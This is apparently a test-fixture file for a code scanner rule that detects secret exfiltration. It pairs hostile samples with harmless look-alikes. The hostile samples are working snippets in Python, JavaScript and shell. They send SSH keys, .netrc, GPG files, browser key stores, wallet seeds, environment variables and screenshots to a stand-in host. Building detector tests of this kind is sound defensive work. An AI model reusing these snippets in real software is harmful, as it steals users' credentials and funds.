"""Samples and twins of `secrets_sent`: what files, buffers, archives, objects and scripts hold before it leaves."""

from inspection.rules.sample import Sample, js, py


def _sh(text: str, line: int) -> Sample:
    """A script that plain `make` runs."""
    return Sample(_made(text), "block", ("a.sh", line))


def _made(text: str) -> dict[str, str | bytes]:
    return {"Makefile": "all:\n\tbash a.sh\n", "a.sh": text}


_FOUND = (
    "from pathlib import Path\nimport requests\nfor one in (Path.home() / '.config' / 'google-chrome').iterdir():\n"
)
_KEPT = (
    "import os, json, requests\nfrom dataclasses import asdict, dataclass, field\n@dataclass\nclass Report:\n"
    "    name: str\n    env: dict = field(default_factory=lambda: dict({}))\n"
    "requests.post('https://a.invalid', data=json.dumps(asdict(Report('a'))))\n"
)
_DUMPED = (
    "import json, os, requests\nwith open('a.json', 'w') as file:\n    json.dump({}, file)\n"
    "requests.post('https://a.invalid', files={{'f': open('a.json', 'rb')}})\n"
)
_PACKED = (
    "const tar = require('tar'), fs = require('fs'), os = require('os');\n"
    "tar.c({ sync: true, file: '/tmp/x.tgz' }, [FOLDER]);\n"
    "fetch('https://a.invalid', { method: 'POST', body: fs.readFileSync('/tmp/x.tgz') });\n"
)
_WALKED = (
    "import pathlib, requests\nclass Files:\n    ROOT = pathlib.Path.home() / '.gnupg'\n    def __iter__(self):\n"
    "        for one in self.ROOT.rglob('*'):\n            yield one.name, one.read_bytes()\n"
    "for name, data in Files():\n    requests.post('https://a.invalid', data=VALUE)\n"
)
_STORED = (
    "import os, psycopg2\ncursor = psycopg2.connect('postgres://a.invalid/b').cursor()\n"
    "cursor.execute('insert into t values (%s)', (VALUE,))\n"
)
_BROWSED = (
    "const keys = Object.keys(localStorage);\n"
    "const all = keys.map((key) => [key, localStorage.getItem(KEY)]);\n"
    "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(all) });\n"
)
_DENO = "const env = VALUE;\nawait fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(env) });\n"
_ELECTRON = (
    "const { net } = require('electron'), fs = require('fs'), os = require('os');\n"
    "const call = net.request({ method: 'POST', url: 'https://a.invalid' });\n"
    "call.write(fs.readFileSync(FILE));\ncall.end();\n"
)
_VITE = (
    "import { defineConfig, loadEnv } from 'vite';\nexport default defineConfig(({ mode }) => {\n"
    "  const env = loadEnv(mode, process.cwd(), '');\n"
    "  fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(VALUE) });\n  return {};\n});\n"
)
_GLOBBED = (
    "const fg = require('fast-glob'), fs = require('fs'), os = require('os');\n"
    "const files = fg.sync('PATTERN', { cwd: os.homedir(), absolute: true });\n"
    "for (const file of files) fetch('https://a.invalid', { method: 'PUT', body: fs.readFileSync(file) });\n"
)

HOSTILE: dict[str, dict[str, Sample]] = {
    "secrets_sent": {
        "a file of a walk, opened by its own method": py(
            _FOUND + "    requests.post('https://a.invalid', data=one.open('rb'))\n", line=4
        ),
        "the environment, made by the factory of a field": py(_KEPT.format("os.environ"), line=7),
        "the environment, saved as JSON and uploaded": py(_DUMPED.format("dict(os.environ)"), line=4),
        "a picture of the screen, saved into a buffer": py(
            "import io, requests\nfrom PIL import ImageGrab\nbuffer = io.BytesIO()\n"
            "ImageGrab.grab().save(buffer, 'PNG')\nrequests.post('https://a.invalid', data=buffer.getvalue())\n",
            "review",
            line=5,
        ),
        "packed by the options of a call": js(_PACKED.replace("FOLDER", "os.homedir() + '/.ssh'")),
        "found below a folder that is an option": js(_GLOBBED.replace("PATTERN", ".mozilla/firefox/*/key4.db"), line=3),
        "a list of keys, sent one by one by a function": _sh(
            "files=(~/.ssh/id_rsa ~/.netrc)\nup() { curl -sF \"f=@$1\" https://a.invalid; }\n"
            "for f in \"${files[@]}\"; do up \"$f\"; done\n",
            2,
        ),
        "through a pipe to another machine": _sh("tar cz -C ~ .ssh .gnupg | ssh me@a.invalid 'cat > x.tgz'\n", 1),
        "by a path of Windows in a line": js(
            "const { execSync } = require('child_process'), data = process.env.APPDATA;\n"
            "execSync('curl -F f=@' + data + '\\\\Exodus\\\\exodus.wallet\\\\seed.seco https://a.invalid');\n",
        ),
        "in a text that stands below the command": _sh("mail -s a me@a.invalid <<EOF\n$(cat ~/.npmrc)\nEOF\n", 1),
        "the secret of an exchange, off its own client": py(
            "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
            "requests.post('https://a.invalid', json={'build': exchange.secret})\n",
            line=3,
        ),
        "what an object gives that is walked": py(_WALKED.replace("VALUE", "data"), line=8),
        "a file of the user's, into somebody's table": py(
            _STORED.replace("VALUE", "open(os.path.expanduser('~/.netrc')).read()"), line=3
        ),
        "all that a page keeps, by each name": js(_BROWSED.replace("KEY", "key"), line=3),
        "the environment by another runtime": js(_DENO.replace("VALUE", "Deno.env.toObject()")),
        "by a request that is written to": js(_ELECTRON.replace("FILE", "os.homedir() + '/.netrc'"), line=3),
        "the settings of a mode, while it is built": js(_VITE.replace("VALUE", "env"), line=4),
        "what a toolchain of contracts deploys with": js(
            "const hre = require('hardhat');\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(hre.config.networks.a.accounts) });\n",
        ),
        "a key to a node of a chain": js(
            "const { JsonRpcProvider, Wallet } = require('ethers');\n"
            "const wallet = Wallet.fromPhrase(process.env.WORDS);\n"
            "new JsonRpcProvider('https://a.invalid').send('eth_sync', [wallet.privateKey]);\n",
            "review",
            line=3,
        ),
    },
}  # fmt: skip

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "secrets_sent": {
        "a file of a walk, opened to be written": {
            "app.py": _FOUND + "    one.open('w')\n    requests.post('https://a.invalid', data='a')\n"
        },
        "a zone, made by the factory of a field": {"app.py": _KEPT.format("zone=os.environ['ZONE']")},
        "a zone, saved as JSON and uploaded": {
            "app.py": _DUMPED.format("os.environ['ZONE']")
        },
        "a picture of the screen, saved into another buffer": {
            "app.py": "import io, requests\nfrom PIL import ImageGrab\nbuffer, own = io.BytesIO(), io.BytesIO()\n"
            "ImageGrab.grab().save(own, 'PNG')\nrequests.post('https://a.invalid', data=buffer.getvalue())\n"
        },
        "packed of the project by the options of a call": {"app.js": _PACKED.replace("FOLDER", "'src'")},
        "found in the project": {"app.js": _GLOBBED.replace("os.homedir()", "__dirname").replace("PATTERN", "*.csv")},
        "a list of files, sent one by one by a function": _made(
            "files=(a.csv b.csv)\nup() { curl -sF \"f=@$1\" https://a.invalid; }\n"
            "for f in \"${files[@]}\"; do up \"$f\"; done\nls ~/.ssh\n"
        ),
        "the project through a pipe to another machine": _made(
            "tar cz src docs | ssh -i ~/.ssh/id_rsa me@a.invalid 'cat > x.tgz'\n"
        ),
        "another path of Windows in a line": {
            "app.js": "const { execSync } = require('child_process'), data = process.env.APPDATA;\n"
            "execSync('curl -F f=@' + data + '\\\\Own\\\\report.json https://a.invalid');\n",
        },
        "the time in a text that stands below the command": _made("mail -s a me@a.invalid <<EOF\n$(date)\nEOF\n"),
        "the name of an exchange, off its own client": {
            "app.py": "import ccxt, requests\nexchange = ccxt.binance({'secret': open('a').read()})\n"
            "requests.post('https://a.invalid', json={'build': exchange.id})\n"
        },
        "the name of what an object gives that is walked": {"app.py": _WALKED.replace("VALUE", "'a'")},
        "a key of its own, into its own table": {"app.py": _STORED.replace("VALUE", "os.environ['PRIVATE_KEY']")},
        "one thing that a page keeps, for each name": {"app.js": _BROWSED.replace("KEY", "'theme'")},
        "a variable by another runtime": {"app.js": _DENO.replace("VALUE", "Deno.env.get('ZONE')")},
        "a report by a request that is written to": {"app.js": _ELECTRON.replace("FILE", "'report.json'")},
        "one setting of a mode, while it is built": {"app.js": _VITE.replace("VALUE", "env.ZONE")},
        "how a toolchain of contracts is called": {
            "app.js": "const hre = require('hardhat');\n"
            "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(hre.config.networks.a.url) });\n",
        },
        "an address to a node of a chain": {
            "app.js": "const { JsonRpcProvider, Wallet } = require('ethers');\n"
            "const wallet = Wallet.fromPhrase(process.env.WORDS);\n"
            "new JsonRpcProvider('https://a.invalid').send('eth_sync', [wallet.address]);\n"
        },
    },
}  # fmt: skip
